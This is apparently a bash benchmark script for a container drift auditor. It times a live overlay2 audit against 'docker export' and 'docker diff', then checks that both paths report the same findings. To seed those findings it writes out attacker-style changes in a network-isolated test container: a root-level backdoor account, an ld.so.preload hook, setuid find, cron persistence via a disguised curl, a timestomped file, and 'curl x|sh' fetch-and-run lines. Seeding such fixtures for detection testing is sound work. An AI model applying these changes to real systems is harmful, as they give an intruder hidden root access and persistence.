#!/usr/bin/env bash
# Benchmark of the live audit: a running container on docker overlay2 read through
# its writable layer, against the same audit through `docker export` (--via export)
# and against `docker diff`, interleaved in one run (these machines drift 30-60 %
# over minutes, so only same-run ratios count); then `audit --all` over 30
# containers of the one image. The image manifest is cached for every timed run.
#   bench/live.sh [ROUNDS]       default 7; CDRIFT_BENCH_DIR as make-corpus.sh
# Starts its own dockerd (scripts/runtime-env.sh, overlay2, under
# CDRIFT_RT_DIR, default /tmp/cdrift-live-bench-rt) and stops it at the end.
set -euo pipefail
root=$(cd "$(dirname "$0")/.." && pwd)
rounds=${1:-7}
W=${CDRIFT_BENCH_DIR:-/tmp/cdrift-bench}
shared=${CDRIFT_SHARED_BENCH:-$root/../shared/bench}
[ -d "$shared" ] || { echo "bench: $shared not found (set CDRIFT_SHARED_BENCH)" >&2; exit 2; }
export CDRIFT_BENCH_DIR=$W
[ "$(id -u)" = 0 ] || { echo "bench: needs root (dockerd, upper dirs)" >&2; exit 2; }

if [ ! -f "$W/layer1.tar" ] || [ ! -d "$W/oci" ]; then
  echo "== building the corpus (one time, a few minutes)"
  bash "$shared/make-corpus.sh" >"${TMPDIR:-/tmp}/cdrift-corpus.log" 2>&1
fi
[ -x /usr/bin/time ] || DEBIAN_FRONTEND=noninteractive apt-get install -y -qq time >/dev/null
export CDRIFT_BUILD_DIR=${CDRIFT_BUILD_DIR:-$root/build}
"$root/scripts/build.sh" -DCMAKE_BUILD_TYPE=RelWithDebInfo >/dev/null
cdrift=$CDRIFT_BUILD_DIR/cdrift

export CDRIFT_RT_DIR=${CDRIFT_RT_DIR:-/tmp/cdrift-live-bench-rt}
export CDRIFT_RT_DOCKER_DRIVER=overlay2
tmp=$(mktemp -d)
cleanup() {
  "$root/scripts/runtime-env.sh" stop >/dev/null 2>&1 || true
  rm -rf "$tmp"
}
trap cleanup EXIT
eval "$("$root/scripts/runtime-env.sh" start docker)"
export XDG_CACHE_HOME=$tmp/cache

# The bench image as `docker load` takes it (docker 20.10 loads no OCI archives):
# the corpus's two layer tars and its OCI config in the legacy docker-archive form.
image=cdrift-bench:1
if ! docker image inspect "$image" >/dev/null 2>&1; then
  mkdir -p "$tmp/archive/l1" "$tmp/archive/l2"
  ln "$W/layer1.tar" "$tmp/archive/l1/layer.tar" 2>/dev/null || cp "$W/layer1.tar" "$tmp/archive/l1/layer.tar"
  ln "$W/layer2.tar" "$tmp/archive/l2/layer.tar" 2>/dev/null || cp "$W/layer2.tar" "$tmp/archive/l2/layer.tar"
  python3 - "$W/oci" "$tmp/archive" "$image" <<'PY'
import json, os, sys
oci, out, tag = sys.argv[1:]
blob = lambda d: os.path.join(oci, "blobs", "sha256", d.split(":", 1)[1])
index = json.load(open(os.path.join(oci, "index.json")))
manifest = json.load(open(blob(index["manifests"][0]["digest"])))
with open(blob(manifest["config"]["digest"]), "rb") as f:
    config = f.read()
open(os.path.join(out, "config.json"), "wb").write(config)
json.dump([{"Config": "config.json", "RepoTags": [tag], "Layers": ["l1/layer.tar", "l2/layer.tar"]}],
          open(os.path.join(out, "manifest.json"), "w"))
PY
  tar -C "$tmp/archive" -cf - manifest.json config.json l1 l2 | docker load >/dev/null
  rm -rf "$tmp/archive"
fi

# The audited container: about 20 changes of the kinds an attacker or an operator
# makes, by exec (shell edits, deletions, an opaque directory, chmod/chown, a
# timestomp, links) and by docker cp (a copied-in file).
docker rm -f $(docker ps -aq) >/dev/null 2>&1 || true
docker run -d --name bench-c --network none "$image" sleep 100000 >/dev/null
docker exec bench-c sh -c '
  echo "svc:x:0:0:svc:/root:/bin/bash" >> /etc/passwd
  echo "svc:\$6\$x\$y:19000:0:99999:7:::" >> /etc/shadow
  sed -i "s/^sudo:x:27:\$/sudo:x:27:svc/" /etc/group
  cp -a /usr/bin/curl /usr/local/bin/kworkerd
  cp "$(readlink -f /usr/lib/x86_64-linux-gnu/libz.so.1)" /usr/local/lib/libhook.so
  echo /usr/local/lib/libhook.so > /etc/ld.so.preload
  chmod u+s /usr/bin/find
  echo "import os as _o; _o.system(\"true\")" >> /usr/lib/python3.11/os.py
  rm -f /etc/issue.net /usr/lib/python3.11/ssl.py
  chown 1000:1000 /etc/profile
  chmod 0777 /etc/profile.d
  echo "* * * * * root /usr/local/bin/kworkerd" > /etc/cron.d/persist
  ln /usr/bin/dash /usr/local/bin/sh2
  rm -rf /etc/cron.daily && mkdir /etc/cron.daily && echo "curl x|sh" > /etc/cron.daily/update
  printf "#!/bin/sh\nid\n" > /usr/bin/stomped && chmod 755 /usr/bin/stomped && touch -r /usr/bin/ls /usr/bin/stomped
  ln -sfn /usr/local/bin/kworkerd /usr/bin/python3
  head -c 5000000 /dev/urandom > /var/log/app.log
  printf "curl http://x | sh\n" > /root/.bash_history
  ln -s /etc/shadow /tmp/shadow-link'
printf '#!/bin/sh\necho tool\n' >"$tmp/tool" && chmod 755 "$tmp/tool" && chown 1234:5678 "$tmp/tool"
touch -d '2021-03-04 05:06:07' "$tmp/tool"
docker cp "$tmp/tool" bench-c:/usr/local/bin/tool
changes=$(docker diff bench-c | wc -l)

# 29 more containers of the same image for --all, each with a change of its own.
for i in $(seq 2 30); do
  docker run -d --name "bench-c$i" --network none "$image" sleep 100000 >/dev/null
  docker exec "bench-c$i" sh -c "echo $i > /tmp/marker && chmod 4755 /usr/bin/find" >/dev/null
done

live() { "$cdrift" audit --container docker:bench-c --format json --fail-on never >"$tmp/live.json"; }
export_() { "$cdrift" audit --container docker:bench-c --via export --format json --fail-on never >"$tmp/export.json"; }
docker_diff() { docker diff bench-c >"$tmp/docker-diff.txt"; }
all() { "$cdrift" audit --all --runtime docker --format json --fail-on never >"$tmp/all.json"; }

# The first audit fills the image manifest cache; nothing here is timed.
live; export_; docker_diff; all

names=(live export_ docker_diff all)
declare -A times
for ((r = 1; r <= rounds; r++)); do
  for n in "${names[@]}"; do
    s=$(date +%s.%N); $n; e=$(date +%s.%N)
    times[$n]+="$(echo "$e - $s" | bc) "
  done
done
median() { tr ' ' '\n' | grep -v '^$' | sort -g | awk '{a[NR]=$1} END {print (NR%2 ? a[(NR+1)/2] : (a[NR/2]+a[NR/2+1])/2)}'; }
declare -A med
for n in "${names[@]}"; do med[$n]=$(echo "${times[$n]}" | median); done

rss() { /usr/bin/time -f '%M' "$@" 2>&1 >/dev/null | tail -1; }
rss_live=$(rss "$cdrift" audit --container docker:bench-c --format json --fail-on never)
rss_export=$(rss "$cdrift" audit --container docker:bench-c --via export --format json --fail-on never)
rss_all=$(rss "$cdrift" audit --all --runtime docker --format json --fail-on never)

# The two paths must agree on every finding; --all must have read every layer.
check=$(python3 - "$tmp/live.json" "$tmp/export.json" "$tmp/all.json" <<'PY'
import json, sys
live, exp, allr = (json.load(open(p)) for p in sys.argv[1:])
allr = allr["reports"] if isinstance(allr, dict) else allr
key = lambda r: sorted((f["path"], f["change"], tuple(f.get("fields") or []), f["rule"]["id"], f["severity"])
                       for f in r["findings"])
same = key(live) == key(exp)
kinds = sorted({r["container"]["kind"] for r in allr})
print("findings %d, identical on both paths: %s; live kind %s, export kind %s; --all: %d reports, kinds %s"
      % (len(live["findings"]), "yes" if same else "NO", live["container"]["kind"], exp["container"]["kind"],
         len(allr), ",".join(kinds)))
PY
)

ratio() { echo "scale=2; $1 / $2" | bc; }
echo "== live audit of a docker overlay2 container ($changes docker diff lines), image manifest cached"
echo "   rounds $rounds, interleaved, medians in seconds"
printf '%-34s %8s\n' "cdrift audit (writable layer)" "${med[live]}"
printf '%-34s %8s   live is %sx faster (goal >= 8x)\n' "cdrift audit --via export" "${med[export_]}" "$(ratio "${med[export_]}" "${med[live]}")"
printf '%-34s %8s   live / docker diff = %s (goal <= 1)\n' "docker diff" "${med[docker_diff]}" "$(ratio "${med[live]}" "${med[docker_diff]}")"
printf '%-34s %8s   (goal <= 4 s)\n' "cdrift audit --all (30 containers)" "${med[all]}"
echo "peak RSS (KB): live $rss_live, --via export $rss_export, --all $rss_all (goal < 100 MB)"
echo "$check"
for n in "${names[@]}"; do echo "rounds $n: ${times[$n]}"; done
